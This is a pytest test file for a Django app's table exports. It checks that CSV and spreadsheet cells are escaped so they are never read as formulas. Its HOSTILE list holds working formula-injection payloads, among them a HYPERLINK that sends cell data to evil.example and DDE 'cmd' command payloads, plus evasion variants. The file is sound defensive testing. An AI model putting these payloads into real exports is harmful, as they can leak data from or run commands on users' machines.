"""No table that anybody takes away holds a formula, whoever wrote what stands in it."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from infogo.bulk.tables import csv_table, write_table
from infogo.core.cells import escaped, unescaped
from infogo.search.models import FailedQuery
from tests.consistency.source import python_files, shown

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"ดู")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "''=1+1",
]
SIGNS = tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_program_takes_for_a_formula_is_escaped(text: str) -> None:
    assert escaped(text) == f"'{text}"
    assert unescaped(escaped(text)) == text


@given(st.text())
def test_nothing_that_is_escaped_begins_with_a_sign(text: str) -> None:
    assert not escaped(text).lstrip("\x00\u200b\ufeff \t\r\n\u00a0").startswith(SIGNS)
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", ["ขอมีบัตรประชาชน", "1+1", "a=b", "", "(02) 123 4567"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert escaped(text) == text


def test_both_kinds_of_table_hold_texts_alone() -> None:
    rows = [(text, 1) for text in HOSTILE]
    content = b"".join(csv_table(("ข้อความ", "จำนวน"), rows)).decode("utf-8-sig")
    read = [*csv.reader(io.StringIO(content, newline=""))][1:]
    assert [cells[0] for cells in read] == [f"'{text}" for text in HOSTILE]
    book = io.BytesIO()
    write_table(book, "ตาราง", ("ข้อความ", "จำนวน"), rows, about=[(HOSTILE[0], HOSTILE[1])])
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name)
            assert b"<hyperlink" not in archive.read(name)


@pytest.mark.django_db
def test_what_readers_searched_for_is_no_formula() -> None:
    FailedQuery.objects.create(
        digest="0" * 64, text=HOSTILE[0], shortfall="nothing", hours=9, last_on=date(2026, 1, 5)
    )
    out = io.StringIO()
    call_command("failed_queries", "--csv", stdout=out)
    assert [*csv.reader(io.StringIO(out.getvalue()))][1][0] == f"'{HOSTILE[0]}"


def test_every_module_that_writes_a_table_escapes_its_texts() -> None:
    """A new export that forgets it fails here."""
    writers, loose, books = set(), [], []
    for file in python_files("infogo"):
        tree = ast.parse(file.read_text())
        calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
        for call in calls:
            called = ast.unparse(call.func)
            if called in {"csv.writer", "csv.DictWriter", "new_workbook"}:
                writers.add(shown(file))
                if not any(ast.unparse(one.func) == "escaped" for one in calls):
                    loose.append(f"{shown(file)} writes a table and escapes nothing")
            if called == "xlsxwriter.Workbook":
                books.append(ast.unparse(call))
    assert len(writers) >= 7
    assert loose == []
    # Every workbook is made by ``new_workbook``, so that none takes a text for a formula.
    assert len(books) == 1
    assert "'strings_to_formulas': False" in books[0]
